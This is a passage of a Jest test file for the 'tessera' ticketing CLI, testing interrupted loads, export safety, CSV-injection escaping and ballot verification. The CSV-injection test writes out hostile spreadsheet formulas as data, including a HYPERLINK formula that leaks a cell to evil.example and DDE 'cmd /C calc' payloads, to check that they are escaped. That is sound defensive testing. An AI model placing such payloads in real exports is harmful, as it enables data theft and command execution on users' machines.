      // The second batch is sent once the first has been acknowledged and counted.
      await waitFor(() => loads >= 2, 'the second batch');
      child.kill('SIGINT');
      const run = await done;
      expect({ code: run.code, timedOut: run.timedOut }).toEqual({ code: 130, timedOut: false });
      expect(messages(run)).toEqual([
        'tessera: interrupted by SIGINT; 1000 of 3000 codes had been acknowledged (1000 loaded, 0 duplicates): run the same command again to load the rest (codes already loaded count as duplicates)',
      ]);
    } finally {
      proxy.close();
    }
  });
});

describe('export writes nothing it has not read', () => {
  test('export with a refused key creates no file, keeps an existing one, and writes nothing to standard output', async () => {
    const dir = cliDir();
    const fresh = path.join(dir, 'fresh.csv');
    const run = await tessera(['export', '--campaign', bigCampaign, '--out', fresh, '--url', base, '--key', BAD_KEY]);
    expectOneError(run, 1, /^tessera: the API key from --key was refused .*UNAUTHENTICATED.*; .*fresh\.csv was not written$/);
    expect(readdirSync(dir)).toEqual([]);

    const existing = path.join(dir, 'existing.csv');
    writeFileSync(existing, 'yesterday\n');
    const again = await tessera(['export', '--campaign', bigCampaign, '--out', existing, '--url', base, '--key', BAD_KEY]);
    expectOneError(again, 1, /UNAUTHENTICATED/);
    expect(readFileSync(existing, 'utf8')).toBe('yesterday\n');
    expect(readdirSync(dir)).toEqual(['existing.csv']);

    const toStdout = await tessera(['export', '--campaign', bigCampaign, '--url', base, '--key', BAD_KEY]);
    expectOneError(toStdout, 1, /UNAUTHENTICATED/);
    expect(toStdout.stdout).toBe('');
  });

  test('export of an unknown campaign says so and writes nothing', async () => {
    const dir = cliDir();
    const out = path.join(dir, 'allocations.csv');
    const id = randomUUID();
    const run = await tessera(['export', '--campaign', id, '--out', out, '--url', base, '--key', ADMIN_KEY]);
    expectOneError(run, 1, new RegExp(`^tessera: no campaign ${id} at ${server.url} \\(check --campaign\\); .* was not written$`));
    expect(readdirSync(dir)).toEqual([]);
    const toStdout = await tessera(['export', '--campaign', id, '--url', base, '--key', ADMIN_KEY]);
    expectOneError(toStdout, 1, /no campaign/);
    expect(toStdout.stdout).toBe('');
  });

  test('export that fails after its first page leaves no file behind (and says standard output is incomplete)', async () => {
    const proxy = await startProxy((n) => (n === 1 ? 'forward' : 'drop'));
    const dir = cliDir();
    const out = path.join(dir, 'allocations.csv');
    try {
      const run = await tessera(['export', '--campaign', bigCampaign, '--out', out, '--url', proxy.url, '--key', ADMIN_KEY]);
      expectOneError(run, 1, new RegExp(`^tessera: could not reach ${proxy.url}/graphql: connection reset by the server; ${out} was not written$`));
      expect(proxy.received).toBeGreaterThanOrEqual(2);
      expect(readdirSync(dir)).toEqual([]);
    } finally {
      proxy.close();
    }
    const proxy2 = await startProxy((n) => (n === 1 ? 'forward' : 'drop'));
    try {
      const run = await tessera(['export', '--campaign', bigCampaign, '--url', proxy2.url, '--key', ADMIN_KEY]);
      expectOneError(run, 1, /connection reset by the server; standard output got only the first 100 allocations$/);
      expect(run.stdout.trim().split('\n')).toHaveLength(101);
    } finally {
      proxy2.close();
    }
  });

  test('an interrupted export removes its temporary file and leaves no output file', async () => {
    const proxy = await startProxy((n) => (n === 1 ? 'forward' : 'hold'));
    const dir = cliDir();
    const out = path.join(dir, 'allocations.csv');
    try {
      const { child, done } = start(['export', '--campaign', bigCampaign, '--out', out, '--url', proxy.url, '--key', ADMIN_KEY]);
      await waitFor(() => proxy.received >= 2, 'the second page');
      // The first page is on disk, under a temporary name only.
      expect(readdirSync(dir)).toEqual([expect.stringMatching(/^\.allocations\.csv\.\d+\.tmp$/)]);
      child.kill('SIGINT');
      const run = await done;
      expect({ code: run.code, timedOut: run.timedOut }).toEqual({ code: 130, timedOut: false });
      expect(messages(run)).toEqual([`tessera: interrupted by SIGINT; ${out} was not written`]);
      expect(readdirSync(dir)).toEqual([]);
    } finally {
      proxy.close();
    }
  });
});

describe('CSV injection', () => {
  test('export escapes every cell a spreadsheet would run as a formula, and the exact values can be recovered', async () => {
    const partner = await server.createPartner('@Partner =1+1');
    const codes = ['=1+2', '-3', '+4', '@5', "'6", 'SAFE-7', '=8', '-9', '+10', '@11'];
    const campaignId = await server.createCampaign();
    await server.gql(ADMIN_KEY, 'mutation($id: ID!, $codes: [String!]!) { loadTickets(campaignId: $id, codes: $codes) { loaded } }', { id: campaignId, codes });
    await server.openCampaign(campaignId);
    const claims = [
      { holder: '=HYPERLINK("http://evil.example/?"&A1,"click")', idempotencyKey: "=cmd|' /C calc'!A0", metadata: -5 },
      { holder: '+1 555 0100', idempotencyKey: '+k', metadata: { note: '=1+1' } },
      { holder: '-2+3', idempotencyKey: '-k', metadata: '@x' },
      { holder: '@SUM(1+1)*cmd|" /C calc"!A0', idempotencyKey: '@k', metadata: null },
      { holder: "'quoted", idempotencyKey: "'k", metadata: "'m" },
      { holder: ' =1+1', idempotencyKey: 'plain-key', metadata: 7 },
      { holder: '\uFF1D1+1', idempotencyKey: 'k7', metadata: null },
      { holder: 'alice', idempotencyKey: 'k8', metadata: { ok: true } },
      { holder: 'later-a-tab', idempotencyKey: 'k9', metadata: null },
      { holder: 'later-a-cr', idempotencyKey: 'k10', metadata: null },
    ];
    for (const input of claims) {
      const res = await server.gql(partner.apiKey, CLAIM, { input: { campaignId, ...input } });
      expect(res.body.data!.claimTicket.error).toBeNull();
    }
    // Control characters cannot come in through the API any more; rows from before that rule can hold them.
    await server.sql.query(`UPDATE allocations SET holder = E'\\t=1+1' WHERE campaign_id = $1 AND holder = 'later-a-tab'`, [campaignId]);
    await server.sql.query(`UPDATE allocations SET holder = E'\\r@SUM(1)' WHERE campaign_id = $1 AND holder = 'later-a-cr'`, [campaignId]);

    const out = path.join(cliDir(), 'allocations.csv');
    expectSuccess(await tessera(['export', '--campaign', campaignId, '--out', out, '--url', base, '--key', ADMIN_KEY]));
    const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'));
    expect(header.map((c) => c.value)).toEqual([
      'sequence',
      'allocation_id',
      'ticket_code',
      'holder',
      'partner_id',
      'partner_name',
      'status',
      'allocated_at',
      'expires_at',
      'released_at',
      'idempotency_key',
      'metadata',
    ]);
    expect(rows).toHaveLength(claims.length);

    // 1. No cell, as a spreadsheet reads it, can start a formula; every escaped cell is quoted.
    for (const cell of rows.flat()) {
      expect(cell.value).not.toMatch(FORMULA_LIKE);
      if (cell.value.startsWith("'")) expect(cell.raw.startsWith(`"'`)).toBe(true);
    }
    // 2. Removing one leading ' gives back exactly what the API holds.
    const api = await server.gql(
      ADMIN_KEY,
      `query($id: ID!) { campaign(id: $id) { allocations(first: 100) { edges { node {
        id sequence status holder idempotencyKey allocatedAt expiresAt releasedAt metadata ticket { code } partner { id name } } } } } }`,
      { id: campaignId },
    );
    const expected = api.body.data!.campaign.allocations.edges.map(({ node }: { node: Record<string, unknown> }) => cellsOf(node));
    expect(rows.map((row) => row.map((cell) => unescape(cell.value)))).toEqual(expected);
    expect(expected.map((row: string[]) => row[3])).toEqual(expect.arrayContaining(['\t=1+1', '\r@SUM(1)', "'quoted", ' =1+1']));
    // 3. What was escaped, and what was left alone.
    const byHolder = new Map(rows.map((row) => [unescape(row[3].value), row]));
    expect(byHolder.get('-2+3')![3].raw).toBe(`"'-2+3"`);
    expect(byHolder.get('=HYPERLINK("http://evil.example/?"&A1,"click")')![3].raw).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(byHolder.get("'quoted")![3].raw).toBe(`"''quoted"`);
    expect(byHolder.get("'quoted")![11].raw).toBe(`"""'m"""`); // metadata is JSON text: a JSON string starts with "
    expect(byHolder.get('=HYPERLINK("http://evil.example/?"&A1,"click")')![11].raw).toBe(`"'-5"`);
    expect(byHolder.get('alice')![3].raw).toBe('"alice"');
    expect(byHolder.get('alice')![0].raw).toMatch(/^\d+$/);
    expect(byHolder.get('alice')![5].raw).toBe(`"'@Partner =1+1"`);
    expect(rows.filter((row) => row[2].raw === '"SAFE-7"')).toHaveLength(1);
  });
});

describe('verify-ballot', () => {
  /** bin/verify-ballot.js run alone: this status, nothing on stdout, one line on stderr. */
  const expectVerdict = (run: Run, code: number, pattern: RegExp) => {
    expect({ code: run.code, stdout: run.stdout, timedOut: run.timedOut }).toEqual({ code, stdout: '', timedOut: false });
    expect(run.stderr.trim().split('\n')).toEqual([expect.stringMatching(pattern)]);
  };
  const ENTER = 'mutation($input: EnterBallotInput!) { enterBallot(input: $input) { entry { id } error { code } } }';

  /** A drawn ballot of 250 entries (three pages of ballotEntries) on 40 tickets. */
  async function drawnBallot(): Promise<{ campaignId: string }> {
    const partner = await server.createPartner('entrant');
    const campaignId = await server.openCampaignWith(40, { mode: 'BALLOT' });
    for (let i = 0; i < 250; i += 25) {
      await Promise.all(
        Array.from({ length: 25 }, (_, j) => server.gql(partner.apiKey, ENTER, { input: { campaignId, holder: `h${i + j}`, quantity: 1 + ((i + j) % 3) } })),
      );
    }
    const drawn = await server.gql(ADMIN_KEY, 'mutation($id: ID!) { drawBallot(campaignId: $id) { ballot { drawnAt } } }', { id: campaignId });
    expect(drawn.body.errors).toBeUndefined();
    return { campaignId };
  }

  test('says verified for a real draw, saves a file anyone can verify offline, and a partner checks that file against the API', async () => {
    const { campaignId } = await drawnBallot();
    const partnerKey = (await server.createPartner('watcher')).apiKey;
    const dir = cliDir();
    const file = path.join(dir, 'ballot.json');
    const run = await tessera(['verify-ballot', '--campaign', campaignId, '--save', file, '--url', base, '--key', ADMIN_KEY]);
    expectSuccess(run);
    expect(run.stdout).toMatch(/^verified: 250 entries, \d+ winners at the draw/);
    const saved = JSON.parse(readFileSync(file, 'utf8'));
    expect(saved.entries).toHaveLength(250);
    expect(saved.ballot.seed).toMatch(/^[0-9a-f]{64}$/);
    // Offline, with no server and no key at all.
    expectSuccess(await tessera(['verify-ballot', '--file', file, '--url', 'http://127.0.0.1:9', '--key', BAD_KEY]));
    // A partner: the published file, tied to what the API shows it.
    // The checker alone, on the published file: the same verdict, the same status.
    const alone = await tessera([file], { bin: VERIFIER });
    expect({ code: alone.code, stdout: alone.stdout, stderr: alone.stderr }).toEqual({ code: 0, stdout: run.stdout, stderr: '' });
    const partnerRun = await tessera(['verify-ballot', '--file', file, '--campaign', campaignId, '--url', base, '--key', partnerKey]);
    expectSuccess(partnerRun);
    // With only its own view (no entries here) a partner cannot recompute the draw, and is told so.
    expectOneError(await tessera(['verify-ballot', '--campaign', campaignId, '--url', base, '--key', partnerKey]), 1, /^tessera: mismatch: 0 entries published, the ballot says 250/);
  });

  test('catches one rank swapped in the database, a tampered file, and refuses what is not a drawn ballot', async () => {
    const { campaignId } = await drawnBallot();
    const dir = cliDir();
    const file = path.join(dir, 'ballot.json');
    expectSuccess(await tessera(['verify-ballot', '--campaign', campaignId, '--save', file, '--url', base, '--key', ADMIN_KEY]));

    // One rank swapped, in the ranking and in the two entries alike: only the hash tells.
    await server.sql.query('UPDATE ballot_entries SET rank = 15 - rank WHERE campaign_id = $1 AND rank IN (7, 8)', [campaignId]);
    await server.sql.query(
      `UPDATE ballot_ranks r SET entry_id = o.entry_id FROM ballot_ranks o WHERE r.campaign_id = $1 AND o.campaign_id = $1 AND r.rank IN (7, 8) AND o.rank = 15 - r.rank`,
      [campaignId],
    );
    expectOneError(await tessera(['verify-ballot', '--campaign', campaignId, '--url', base, '--key', ADMIN_KEY]), 1, /^tessera: mismatch: entry [0-9a-f-]+ has rank 8; .* puts it at 7/);
    // A published file tampered with: a loser turned winner, then another seed.
    const saved = JSON.parse(readFileSync(file, 'utf8'));
    const loser = saved.entries.find((e: { wonInDraw: boolean }) => !e.wonInDraw);
    loser.wonInDraw = true;
    loser.status = 'WON';
    writeFileSync(file, JSON.stringify(saved));
    expectOneError(await tessera(['verify-ballot', '--file', file]), 1, /^tessera: mismatch: entry .* is recorded as a winner/);
    expectVerdict(await tessera([file], { bin: VERIFIER }), 1, /^verify-ballot: mismatch: entry .* is recorded as a winner/);
    saved.ballot.seed = 'f'.repeat(64);
    writeFileSync(file, JSON.stringify(saved));
    expectOneError(await tessera(['verify-ballot', '--file', file, '--campaign', campaignId, '--url', base, '--key', ADMIN_KEY]), 1, /^tessera: mismatch: the file's seed/);

    const undrawn = await server.openCampaignWith(1, { mode: 'BALLOT' });
    expectOneError(await tessera(['verify-ballot', '--campaign', undrawn, '--url', base, '--key', ADMIN_KEY]), 1, /not drawn yet/);
    expectOneError(await tessera(['verify-ballot', '--campaign', bigCampaign, '--url', base, '--key', ADMIN_KEY]), 1, /has no ballot/);
    expectOneError(await tessera(['verify-ballot', '--url', base]), 2, /--campaign <id> or --file/);
    writeFileSync(file, 'not json');
    expectOneError(await tessera(['verify-ballot', '--file', file]), 1, /is not a ballot file/);
    expectVerdict(await tessera([file], { bin: VERIFIER }), 1, /^verify-ballot: .*ballot\.json is not a ballot file/);
    expectVerdict(await tessera([], { bin: VERIFIER }), 2, /^verify-ballot: expected one ballot file, got none/);
  });
});

describe('verify', () => {
  test('ok on a clean campaign; a drifted counter and a drifted ticket are reported (exit 1); --repair fixes the counter only', async () => {
    const partner = await server.createPartner('verified by the CLI');
    const campaignId = await server.openCampaignWith(10);
    for (let i = 0; i < 3; i += 1) await server.gql(partner.apiKey, CLAIM, { input: { campaignId, holder: `v${i}` } });
    const clean = await tessera(['verify', '--campaign', campaignId, '--url', base, '--key', ADMIN_KEY]);
    expectSuccess(clean);
    expect(clean.stdout).toMatch(/: ok\n1 campaign verified, 0 with drift\n$/);

    // The sweeper folds counter slots meanwhile, and its DELETE may win the row: drift one still there.
    await until(
      async () =>
        (await server.sql.query('UPDATE campaign_counters SET held = held + 2 WHERE campaign_id = $1 AND slot = (SELECT min(slot) FROM campaign_counters WHERE campaign_id = $1)', [campaignId]))
          .rowCount === 1,
      { message: 'a counter slot of the campaign to drift' },
    );
    const drifted = await tessera(['verify', '--campaign', campaignId, '--url', base, '--key', ADMIN_KEY]);
    expect(drifted.code).toBe(1);
    expect(drifted.stdout).toContain('DRIFT counter.held: expected 0, found 2 (off by 2)');

    const repaired = await tessera(['verify', '--campaign', campaignId, '--repair', '--url', base, '--key', ADMIN_KEY]);
    expectSuccess(repaired);
    expect(repaired.stdout).toContain('repaired counter.held: expected 0, found 2 (off by 2)');
    expect(repaired.stdout).toMatch(/: ok after the repair\n/);

    await server.sql.query("UPDATE tickets SET status = 'VOID' WHERE campaign_id = $1 AND status = 'AVAILABLE' AND id = (SELECT id FROM tickets WHERE campaign_id = $1 AND status = 'AVAILABLE' LIMIT 1)", [campaignId]);
    const row = await tessera(['verify', '--campaign', campaignId, '--repair', '--url', base, '--key', ADMIN_KEY]);
    expect(row.code).toBe(1);
    expect(row.stdout).toContain('repaired counter.void');
    expect(row.stdout).toMatch(/DRIFT \(a row: not repaired\) ticket\.status \d+: expected AVAILABLE \(no allocation of it ended under the VOID policy\), found VOID/);
  });

  test('without --campaign it verifies every campaign; an unknown campaign is one clear error', async () => {
    const all = await tessera(['verify', '--url', base, '--key', ADMIN_KEY]);
    expect(all.stdout).toMatch(/\d+ campaigns verified, \d+ with drift/);
    expectOneError(await tessera(['verify', '--campaign', '00000000-0000-0000-0000-0000000000ee', '--url', base, '--key', ADMIN_KEY]), 1, /NOT_FOUND|does not exist/);
  });
});
